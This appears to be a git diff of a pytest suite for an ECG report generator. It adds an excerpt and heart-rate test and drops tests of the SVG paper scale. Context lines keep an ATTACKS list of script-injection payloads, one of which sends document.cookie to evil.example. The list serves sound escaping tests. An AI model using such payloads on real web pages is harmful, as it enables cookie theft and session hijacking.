@@ -1,4 +1,4 @@
-"""Reports: pages say what the JSON says, run no script, and draw true to scale; tables keep every record."""
+"""Reports: pages say what the JSON says and run no script; tables keep every record."""
 
 from __future__ import annotations
 
@@ -19,9 +19,10 @@ import pytest
 
 from ecgbatch.figures.by_patient import FIGURES
 from ecgbatch.measurements.quantities import LEAD_QUANTITIES, QUANTITIES
-from ecgbatch.reports import cohort, ecg_paper, record
+from ecgbatch.reports import cohort, record
+from ecgbatch.reports.excerpts import Excerpt
 from ecgbatch.reports.writing import record_slugs, report_workspace
-from ecgbatch.terms import LEAD_FLAGS, LEADS, NOTICE
+from ecgbatch.terms import LEAD_FLAGS, NOTICE
 from storage import TEXT, folder_at, open_store
 from tests.reports.report_runs import LEAD, SCRIPT, reported_run
 
@@ -195,6 +196,23 @@ def test_page_of_a_record_set_aside_says_why_and_draws_no_ecg(ran):
     assert ran.broken in set_aside
 
 
+def test_page_says_why_these_seconds_which_rhythm_lead_and_one_rate(ran):
+    name = next(name for name in ran.names if name not in (ran.broken, ran.partial, ran.evil))
+    report, text = ran.records[name], Page(page_of(ran, name)).text
+    assert report["excerpt"]["why"] == "the whole recording"
+    assert report["excerpt"]["rhythm_lead"] == "II"
+    assert report["excerpt"]["end_s"] == report["excerpt"]["start_s"] + report["excerpt"]["length_s"] == 8.0
+    assert report["strips"] is None
+    assert "The whole recording" not in text
+    assert report["rate"] == {
+        "bpm": report["measurements"]["heart_rate_bpm"]["value"],
+        "of": "excerpt",
+        "meaning": "median of the whole recording",
+        "other_bpm": None,
+    }
+    assert f"Heart rate {report['rate']['bpm']:.0f}/min: median of the whole recording." in text
+
+
 def test_partial_record_is_scored_and_says_which_leads_are_absent(ran):
     report = ran.records[ran.partial]
     assert report["status"] == "partial"
@@ -316,39 +334,6 @@ def test_slugs_are_safe_different_and_independent_of_order():
     assert record_slugs(reversed(names)) == slugs
 
 
-def test_one_millivolt_is_ten_millimetres_and_one_second_twenty_five():
-    fs, leads = 500.0, ("I", "II", "III", "aVR", "aVL", "aVF", "V1", "V2", "V3", "V4", "V5", "V6")
-    signal = np.zeros((12, 5000), np.float32)
-    signal[1, 1000:1100] = 1.0  # lead II: 1 mV from second 2.0 to 2.2
-    excerpt = ecg_paper.Excerpt(signal, leads, (0,) * 12, 0.0, fs)
-    drawing = str(ecg_paper.ecg_paper(excerpt, np.array([2.0]), np.array([0.5])))
-    width, height = (float(value) for value in re.search(r'width="([\d.]+)mm" height="([\d.]+)mm"', drawing).groups())
-    box = [float(value) for value in re.search(r'viewBox="0 0 (\d+) (\d+)"', drawing).groups()]
-    assert box == [width * ecg_paper.UNITS_PER_MM, height * ecg_paper.UNITS_PER_MM]
-    strip = max(points_of(drawing), key=lambda points: np.ptp(points[:, 0]))
-    assert np.ptp(strip[:, 0]) == pytest.approx(10 * 25 * ecg_paper.UNITS_PER_MM, rel=0.002)
-    assert np.ptp(strip[:, 1]) == 10 * ecg_paper.UNITS_PER_MM
-    high = strip[strip[:, 1] == strip[:, 1].min(), 0]
-    assert np.ptp(high) == pytest.approx(0.2 * 25 * ecg_paper.UNITS_PER_MM, abs=0.1 * ecg_paper.UNITS_PER_MM)
-
-
-def points_of(drawing: str) -> list[np.ndarray]:
-    """Absolute points of every path."""
-    found = []
-    for data in re.findall(r'<path[^>]* ?d="([^"]+)"', drawing):
-        points, x, y = [], 0.0, 0.0
-        for command, text in re.findall(r"([MmLlHhVv])([^MmLlHhVvZz]*)", data):
-            numbers = [float(value) for value in re.findall(r"-?\d+(?:\.\d+)?", text)]
-            pairs = {"H": [(n, None) for n in numbers], "V": [(None, n) for n in numbers]}
-            for new_x, new_y in pairs.get(command.upper(), list(zip(numbers[::2], numbers[1::2], strict=False))):
-                origin_x, origin_y = (x, y) if command.islower() else (0.0, 0.0)
-                x = x if new_x is None else origin_x + new_x
-                y = y if new_y is None else origin_y + new_y
-                points.append((x, y))
-        found.append(np.array(points))
-    return found
-
-
 ATTACKS = [
     template.format(call)
     for call in ("alert(1)", "fetch('//evil.example/'+document.cookie)", "location='https://evil.example'", "eval(name)")
@@ -397,7 +382,7 @@ def test_sixty_attacks_in_every_text_of_a_record_change_no_tag_of_its_page(ran, 
 
     def drawn(text: str) -> str:
         leads = {f"{text}{name}": flags for name, flags in zip(names, report["leads"].values(), strict=True)}
-        excerpt = ecg_paper.Excerpt(signal, tuple(leads), flags, 0.0, 250.0)
+        excerpt = Excerpt(signal, tuple(leads), flags, 0.0, 250.0)
         changed = attacked(report, text, words) | {"leads": leads, "warnings": [text] * len(report["warnings"])}
         with_ecg = {"excerpt": excerpt} if report["excerpt"] else {}
         return record.record_page(changed, **with_ecg)
@@ -422,72 +407,3 @@ def test_attacks_in_every_text_of_a_cohort_change_no_tag_of_its_page(ran):
     expected = shape(drawn("harmless"))
     for attack in ATTACKS:
         assert shape(drawn(attack)) == expected, attack
-
-
-def test_leads_that_are_not_millivolts_get_no_millivolt_scale():
-    signal = np.tile(np.sin(np.arange(2500) / 20).astype(np.float32) * 40, (12, 1))
-    excerpt = ecg_paper.Excerpt(signal, LEADS[:12], (LEAD_FLAGS["not_millivolts"],) * 12, 0.0, 250.0)
-    drawing = str(ecg_paper.ecg_paper(excerpt, np.empty(0), np.empty(0)))
-    assert "amplitude normalised" in drawing
-    assert "25 mm/s" in drawing
-    for millivolts in ("10 mm/mV", 'class="pulse"', "url(#paper)", "0.1 mV"):
-        assert millivolts not in drawing
-    traces = re.findall(r'class="trace"[^>]* d="[^"]+"', drawing)
-    heights = [np.ptp(points_of(f"<path {trace}")[0][:, 1]) / ecg_paper.UNITS_PER_MM for trace in traces]
-    assert len(heights) == 13
-    assert max(heights) < 16  # 80 mV would have been 800 mm
-
-
-def test_lead_that_is_missing_is_drawn_as_absent_and_the_rhythm_strip_takes_another():
-    flags = tuple(LEAD_FLAGS["missing"] if lead == "II" else 0 for lead in LEADS[:12])
-    excerpt = ecg_paper.Excerpt(np.zeros((12, 2500), np.float32), LEADS[:12], flags, 0.0, 250.0)
-    drawing = str(ecg_paper.ecg_paper(excerpt, np.empty(0), np.empty(0)))
-    assert "II absent" in drawing
-    assert "last strip: lead I," in drawing
-
-
-def test_thinned_trace_stays_within_a_fifth_of_the_lines_width_and_keeps_gaps():
-    x = np.arange(4000, dtype=float)
-    y = 400 * np.sin(x / 37) + 3 * np.random.default_rng(1).standard_normal(4000)
-    y[1000:1010] = np.nan
-    path = ecg_paper._path(x, y)
-    assert path.count("M") == 2
-    runs = points_of(f'<path d="{path}"')[0]
-    drawn = np.interp(x, runs[:, 0], runs[:, 1])
-    known = np.isfinite(y)
-    assert np.abs(drawn - y)[known].max() < 4 * 0.05 * ecg_paper.UNITS_PER_MM + 1
-
-
-def test_tall_waves_overlap_their_neighbours_and_are_never_cut_off_by_the_sheet():
-    signal = np.zeros((12, 5000), np.float32)
-    signal[:, 400::500] = 3.2  # 32 mm up, in the first row too
-    signal[:, 450::500] = -2.4
-    excerpt = ecg_paper.Excerpt(signal, LEADS[:12], (0,) * 12, 0.0, 500.0)
-    drawing = str(ecg_paper.ecg_paper(excerpt, np.empty(0), np.empty(0)))
-    height = float(re.search(r'viewBox="0 0 \d+ (\d+)"', drawing)[1])
-    traces = re.findall(r'class="trace"[^>]* d="[^"]+"', drawing)
-    assert len(traces) == 13
-    for trace in traces:
-        y = points_of(f"<path {trace}")[0][:, 1]
-        assert y.min() >= 0
-        assert y.max() <= height
-        assert np.ptp(y) == pytest.approx(56 * ecg_paper.UNITS_PER_MM, abs=2)
-
-
-@pytest.mark.parametrize("dtype", [np.float32, np.float64])
-def test_path_spells_every_step_of_its_line(dtype):
-    random = np.random.default_rng(3)
-    y = np.cumsum(random.normal(0, 900, 400)).astype(dtype)
-    y[[7, 8, 300, 399]] = np.nan
-    y[350] = 1e6  # a step that no table holds
-    x = np.arange(y.size).astype(dtype) * dtype(37.5)
-    path = ecg_paper._path(x, y, is_function=False)
-    pieces = [slice(0, 7), slice(9, 300), slice(301, 399)]
-    expected = []
-    for piece in pieces:
-        points = np.rint(np.column_stack([x[piece], y[piece]])).astype(int)
-        steps = " ".join(str(step) for step in np.diff(points, axis=0).ravel().tolist())
-        expected.append(f"M{points[0, 0]} {points[0, 1]}l{steps}")
-    assert path == "".join(expected)
-    assert ecg_paper._path(x[:1], y[:1]) == f"M{round(float(x[0]))} {round(float(y[0]))}h0"
-    assert ecg_paper._path(x[7:9], y[7:9]) == ""
